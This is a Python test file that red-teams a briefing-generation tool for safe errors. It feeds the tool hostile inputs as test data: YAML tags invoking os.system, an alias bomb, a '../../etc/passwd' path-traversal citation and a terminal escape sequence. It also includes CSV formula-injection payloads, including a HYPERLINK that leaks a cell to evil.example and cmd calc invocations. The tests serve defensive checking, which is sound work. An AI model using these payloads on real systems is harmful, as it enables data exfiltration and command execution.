"""Red team, whole commands: each bad or hostile input ends in `error: FILE:LINE: what — fix`
lines and the documented exit code, no traceback, no temporary file, and the previous pages,
HTML and PDF byte-identical."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from briefing_tools import writer
from briefing_tools.cli import EXIT_BAD_INPUT, EXIT_CHECK_FAILED, EXIT_INTERNAL, EXIT_SYSTEM, main

ROOT = Path(__file__).resolve().parent.parent
GOOD = "obct-2023-03-10"


def outputs(project: Path) -> dict[str, str]:
    """What a reader sees, by hash: the pages, the HTML and the PDF (a cache, or Sphinx's work
    folders and their markers, may change)."""
    result = {}
    for folder in ("docs/briefing", "docs/_build/html", "docs/_build/pdf"):
        for path in sorted((project / folder).rglob("*")):
            if path.is_file() and path.name != "error.log":
                result[path.relative_to(project).as_posix()] = hashlib.sha256(
                    path.read_bytes()).hexdigest()
    return result


@pytest.fixture(scope="module")
def generated_once(tmp_path_factory):
    """A project generated once, with a stand-in for its last good HTML and PDF."""
    from conftest import copy_project

    project = copy_project(tmp_path_factory.mktemp("generated") / "project")
    assert main(["--project", str(project), "generate"]) == 0
    for name, data in (("html/index.html", b"<p>last good site</p>"),
                       ("pdf/briefing.pdf", b"%PDF last good")):
        path = project / "docs" / "_build" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return project


@pytest.fixture
def built(generated_once, tmp_path):
    """A fresh copy of that project for each test (copying is cheaper than generating)."""
    return Path(shutil.copytree(generated_once, tmp_path / "project", symlinks=True))


def run(project: Path, capsys, *args: str) -> tuple[int, list[str]]:
    """Run a command that must fail; (exit code, stderr lines), after checking the promises
    every failure keeps."""
    before = outputs(project)
    code = main(["--project", str(project), *args])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines and all(line.startswith("error: ") for line in lines), err
    assert outputs(project) == before, "the previous output changed"
    assert not [p for p in project.rglob("*") if p.name.endswith(".tmp")], "temporary file left"
    return code, lines


def write(project: Path, name: str, text: str | bytes) -> Path:
    path = project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def a_source(front: str = "", body: str = "Pashinyan said on Monday that talks went on.\n") -> str:
    return f"---\npublished: 2023-06-20\n{front}---\n{body}"


def event_id(project: Path) -> str:
    from briefing_tools.pipeline import Options, knowledge_base

    _, kb, _ = knowledge_base(Options(project=project))
    return kb.events[-1].id


# --- bad input: exit 2, one line naming file and line -----------------------------------------

@pytest.mark.parametrize("name, content, where", [
    ("sources/tagged.md", a_source("title: !!python/object/apply:os.system ['touch x']\n"),
     "sources/tagged.md:3: YAML tag"),
    ("sources/bomb.md", a_source("a: &a [x, x]\nb: [*a, *a]\n"),
     "sources/bomb.md:3: YAML anchors and aliases"),
    ("sources/old.md", a_source().replace("2023-06-20", "0001-01-02"),
     "sources/old.md:2: 'published' 0001-01-02 lies before 1970"),
    ("sources/listed.md", a_source().replace("2023-06-20", "[2023-06-22]"),
     "sources/listed.md:2: 'published' must be one date"),
    ("sources/index.md", a_source(), "sources/index.md: source id 'index' is the name of"),
    ("sources/-rf.md", a_source(), "sources/-rf.md: source id '-rf' is not usable"),
    ("sources/my article.md", a_source(), "sources/my article.md: source id 'my article' is"),
    ("sources/odd.MD", a_source(), "sources/odd.MD: the name ends in '.MD'"),
    ("sources/sub/nested.md", a_source(), "sources/sub: articles in a subfolder are not read"),
    ("sources/cr.md", a_source("title: [\n").replace("\n", "\r"), "sources/cr.md:4: invalid YAML"),
    ("sources/ctrl.md", a_source(body="Text \x1b]0;owned\x07 here.\n"),
     "sources/ctrl.md:4: a control character (U+001B)"),
])
def test_a_bad_article_is_one_line_with_file_and_line(built, capsys, name, content, where):
    write(built, name, content)
    code, lines = run(built, capsys, "build", "html", "pdf")
    assert code == EXIT_BAD_INPUT
    assert len(lines) == 1 and where in lines[0], lines
    assert " — " in lines[0]


def test_every_problem_of_a_front_matter_at_once(built, capsys):
    write(built, "sources/many.md", "---\npublished: 2023-02-30\ntitel: x\nlanguage: ''\n---\nx\n")
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_BAD_INPUT
    assert [line.split(":")[2] for line in lines] == ["2", "3", "4"]


def test_a_link_to_a_file_outside_the_project_is_refused(built, capsys, tmp_path):
    outside = write(tmp_path, "secret.md", a_source())
    (built / "sources" / "linked.md").symlink_to(outside)
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_BAD_INPUT and "sources/linked.md: is a link to a file outside" in lines[0]


def test_a_link_to_itself_is_refused(built, capsys):
    (built / "sources" / "loop.md").symlink_to("loop.md")
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_BAD_INPUT and "sources/loop.md: is a link that leads nowhere" in lines[0]


def test_a_link_inside_the_project_is_read(built):
    from briefing_tools.sources import source_files

    write(built, "elsewhere/inside.md", a_source())
    (built / "sources" / "inside.md").symlink_to(built / "elsewhere" / "inside.md")
    assert built / "sources" / "inside.md" in source_files(built)


@pytest.mark.parametrize("change, where", [
    (lambda t: t.replace('title: "Armenia–Azerbaijan peace talks"', "title: " + "T" * 10_000),
     "briefing.yaml:3: title is 10,000 characters long"),
    (lambda t: t.replace("title:", "base: &b [x]\ntitle:", 1), "briefing.yaml:3: YAML anchors"),
    (lambda t: t.replace("words: [Armenia, Armenian, Yerevan]", "words: [Armenia, '', Yerevan]"),
     "briefing.yaml:14: an entry of words is blank"),
    (lambda t: t.replace('language: en', 'language: !!binary "not base64"'),
     "briefing.yaml:5: YAML tag"),
])
def test_a_bad_configuration_is_one_line(built, capsys, change, where):
    path = built / "briefing.yaml"
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_BAD_INPUT and len(lines) == 1 and where in lines[0], lines


@pytest.mark.parametrize("decision, where", [
    ("add:\n  - kind: background\n    text: t\n    citations:\n"
     "      - {source: nowhere, paragraph: 1, excerpt: e}\n",
     "editorial.yaml:2: citation of unknown source 'nowhere'"),
    ("add:\n  - kind: background\n    text: t\n    citations:\n"
     "      - {source: ../../etc/passwd, paragraph: 1, excerpt: e}\n",
     "editorial.yaml:2: citation of unknown source '../../etc/passwd'"),
    ("add:\n  - kind: statement\n    issue: no-such-issue\n    text: t\n    citations:\n"
     f"      - {{source: {GOOD}, paragraph: 1, excerpt: Azerbaijan}}\n",
     "editorial.yaml:2: unknown issue 'no-such-issue'"),
    ("add:\n  - kind: event\n    date: 2023\n    precision: day\n    text: t\n    citations:\n"
     f"      - {{source: {GOOD}, paragraph: 1, excerpt: Azerbaijan}}\n",
     "editorial.yaml:3: '2023' is not precise enough for precision 'day'"),
    ("redate:\n  ID: {date: 2023-05-01-xx, precision: day, reason: r}\n",
     "editorial.yaml:2: '2023-05-01-xx' is not a date"),
    ("merge:\n  - [ID, ID]\n", "editorial.yaml:2: the merge lists ID twice"),
    (b"hide: [caf\xe9]\n", "editorial.yaml: not UTF-8 text"),
])
def test_a_bad_editorial_decision_is_one_line(built, capsys, decision, where):
    ident = event_id(built)
    if isinstance(decision, str):
        decision, where = decision.replace("ID", ident), where.replace("ID", ident)
    write(built, "editorial.yaml", decision)
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_BAD_INPUT and len(lines) == 1 and where in lines[0], lines


def test_a_reworded_chronology_row_with_an_invented_quotation_fails_check(built, capsys):
    ident = event_id(built)
    write(built, "editorial.yaml",
          f'reword:\n  {ident}: \'Aliyev said “we will never sign anything”.\'\n')
    before = outputs(built)
    assert main(["--project", str(built), "generate"]) == EXIT_CHECK_FAILED
    err = capsys.readouterr().err
    assert "docs/briefing/chronology.md:" in err and "we will never sign anything" in err
    assert "not verbatim" in err and outputs(built) == before


# --- the system refuses: exit 4, one line -------------------------------------------------------

def refuse_writes_under(monkeypatch, folder: Path, error: int) -> None:
    """What a read-only folder (or a full disk) does to a write; as root, chmod cannot."""
    real_mkstemp = writer.tempfile.mkstemp

    def mkstemp(*args, dir=None, **kwargs):  # noqa: A002 - tempfile's own name
        if dir is not None and Path(dir).resolve().is_relative_to(folder.resolve()):
            if error == errno.ENOSPC:  # the file opens; the bytes do not fit
                fd, name = real_mkstemp(*args, dir=dir, **kwargs)
                os.close(fd)
                read_only = os.open(name, os.O_RDONLY)
                return read_only, name
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(dir))
        return real_mkstemp(*args, dir=dir, **kwargs)

    monkeypatch.setattr(writer.tempfile, "mkstemp", mkstemp)
    if error == errno.ENOSPC:
        real_fdopen = writer.os.fdopen

        def fdopen(fd, mode="r", *args, **kwargs):
            handle = real_fdopen(fd, mode, *args, **kwargs)
            if "w" in mode:
                handle.write = _disk_full  # type: ignore[method-assign]
            return handle

        monkeypatch.setattr(writer.os, "fdopen", fdopen)


def _disk_full(data):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize("folder, options", [("docs/briefing", ["--no-cache"]),
                                             (".briefing-cache", [])])
def test_a_read_only_output_folder_is_one_line(built, capsys, monkeypatch, folder, options):
    (built / "sources" / f"{GOOD}.md").write_text(
        (built / "sources" / f"{GOOD}.md").read_text(encoding="utf-8") + "\nOne more line.\n",
        encoding="utf-8")
    refuse_writes_under(monkeypatch, built / folder, errno.EACCES)
    code, lines = run(built, capsys, "generate", *options)
    assert code == EXIT_SYSTEM and len(lines) == 1
    assert "Permission denied — make the file or folder writable" in lines[0], lines


def test_a_read_only_build_folder_stops_before_sphinx(built, capsys, monkeypatch):
    from briefing_tools import build

    monkeypatch.setattr(build.os, "access", lambda path, mode: "_build" not in str(path))
    code, lines = run(built, capsys, "build", "html")
    assert code == EXIT_SYSTEM and len(lines) == 1 and "Permission denied" in lines[0]


def test_a_full_disk_is_one_line_and_leaves_no_temporary_file(built, capsys, monkeypatch):
    path = built / "sources" / f"{GOOD}.md"
    path.write_text(path.read_text(encoding="utf-8") + "\nOne more line.\n", encoding="utf-8")
    refuse_writes_under(monkeypatch, built, errno.ENOSPC)
    code, lines = run(built, capsys, "generate", "--no-cache")
    assert code == EXIT_SYSTEM and len(lines) == 1
    assert "No space left on device — free some disk space" in lines[0]


def test_an_unreadable_article_is_one_line(built, capsys, monkeypatch):
    path = built / "sources" / f"{GOOD}.md"
    path.chmod(0)
    if os.geteuid() == 0:  # root reads anything: make the read fail as it would for a user
        real = Path.read_bytes
        monkeypatch.setattr(Path, "read_bytes", lambda self: (_ for _ in ()).throw(
            PermissionError(errno.EACCES, "Permission denied", str(self)))
            if self == path else real(self))
    code, lines = run(built, capsys, "generate")
    path.chmod(0o644)
    assert code == EXIT_BAD_INPUT
    assert lines == [f"error: sources/{GOOD}.md: cannot be read: Permission denied — check that "
                     "the file exists and that you may read it"]


# --- a bug: exit 70, one line, the traceback in a log file ----------------------------------

def test_an_unexpected_error_is_one_line_and_a_log_file(built, capsys, monkeypatch):
    from briefing_tools import pipeline

    def broken(*args, **kwargs):
        raise RuntimeError("a bug")

    monkeypatch.setattr(pipeline, "render_pages", broken)
    (built / "sources" / f"{GOOD}.md").write_text(
        (built / "sources" / f"{GOOD}.md").read_text(encoding="utf-8") + "\nMore.\n",
        encoding="utf-8")
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_INTERNAL and len(lines) == 1
    log = built / ".briefing-cache" / "error.log"
    assert str(log) in lines[0] and "please report it" in lines[0]
    assert "RuntimeError: a bug" in log.read_text(encoding="utf-8")


# --- injection into a spreadsheet -------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def test_csv_cells_never_start_a_formula(built, capsys, tmp_path):
    body = "".join(f"{f} talks were held in Brussels on {d} June 2023, Bayramov said.\n\n"
                   for f, d in zip(FORMULAS, (12, 13, 14, 15), strict=True))
    write(built, "sources/formulas.md", a_source(body=body))
    main(["--project", str(built), "export", "--format", "csv"])
    exported = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    review_csv = tmp_path / "items.csv"
    main(["--project", str(built), "review", "--csv", str(review_csv)])
    reviewed = list(csv.reader(review_csv.open(encoding="utf-8")))
    for rows in (exported, reviewed):
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert any(c.startswith("'=HYPERLINK(") for c in cells), "formula text was dropped"


# --- the Makefile ----------------------------------------------------------------------------

@pytest.mark.skipif(not (ROOT / ".venv" / "bin" / "briefing").exists(), reason="no .venv")
def test_make_takes_a_project_path_with_spaces_and_quotes(tmp_path):
    from conftest import copy_project

    project = copy_project(tmp_path / "a path with spaces & $HOME")
    result = subprocess.run(["make", "-s", "-C", str(ROOT), "check", f"PROJECT={project}"],
                            capture_output=True, text=True, env={**os.environ, "MAKEFLAGS": ""})
    assert result.returncode == 0, result.stderr
    assert "every citation holds" in result.stdout


def test_the_command_itself_never_shows_a_traceback(tmp_path):
    write(tmp_path, "briefing.yaml", "title: !!python/name:os.system\nparties: []\n")
    (tmp_path / "sources").mkdir()
    result = subprocess.run([sys.executable, "-m", "briefing_tools", "--project", str(tmp_path),
                             "generate"], capture_output=True, text=True)
    assert result.returncode == EXIT_BAD_INPUT
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    shutil.rmtree(tmp_path / "sources")


# --- every file the tool reads, every option ------------------------------------------------

def test_a_hand_written_page_that_is_not_utf8_is_one_line(built, capsys):
    write(built, "docs/notes.md", b"# Notes\n\ncaf\xe9\n")
    code, lines = run(built, capsys, "generate")
    assert code == EXIT_BAD_INPUT
    assert lines == ["error: docs/notes.md: not UTF-8 text (byte 12) — re-save the page as UTF-8"]


@pytest.mark.parametrize("damage", [b"", b"{not json", b'{"latest_published": 5}', b"[]"])
def test_a_damaged_record_of_the_last_run_is_regenerated_not_a_crash(built, capsys, damage):
    for name in ("generate.json", "last-build.json"):
        write(built, f".briefing-cache/{name}", damage)
    assert main(["--project", str(built), "generate"]) == 0
    assert main(["--project", str(built), "review"]) == 0
    assert "Traceback" not in capsys.readouterr().err


def test_a_review_csv_into_a_missing_folder_is_one_line(built, capsys):
    code = main(["--project", str(built), "review", "--csv", str(built / "no" / "items.csv")])
    err = capsys.readouterr().err.strip()
    assert code == EXIT_SYSTEM and err.count("\n") == 0
    assert err.startswith("error: no/items.csv: No such file or directory — ")


@pytest.mark.parametrize("jobs", ["0", "-3", "many"])
def test_a_bad_job_count_is_a_usage_error(built, capsys, jobs):
    with pytest.raises(SystemExit) as exited:
        main(["--project", str(built), "generate", "--jobs", jobs])
    assert exited.value.code == EXIT_BAD_INPUT
    assert "is not a whole number from 1" in capsys.readouterr().err


@pytest.mark.parametrize("damage", [b"", b"\x80\x05garbage", b"not a pickle at all"])
def test_a_damaged_extraction_cache_is_redone(built, capsys, damage):
    for path in (built / ".briefing-cache" / "extract").glob("*.pickle"):
        path.write_bytes(damage)
    (built / ".briefing-cache" / "generate.json").unlink()
    assert main(["--project", str(built), "generate"]) == 0
    assert "Traceback" not in capsys.readouterr().err


def test_a_disk_that_fills_while_sphinx_writes_is_one_line(built, capsys, monkeypatch):
    from briefing_tools import build

    def sphinx_on_a_full_disk(command, **kwargs):
        return subprocess.CompletedProcess(command, 2, "", "OSError: [Errno 28] "
                                           f"{os.strerror(errno.ENOSPC)}: 'x.html'\n")

    monkeypatch.setattr(build.subprocess, "run", sphinx_on_a_full_disk)
    monkeypatch.setattr(build, "_interactive", lambda: False)
    code, lines = run(built, capsys, "build", "html")
    assert code == EXIT_SYSTEM
    assert lines == [f"error: docs/_build: {os.strerror(errno.ENOSPC)} — free some disk space "
                     "and run the command again"]
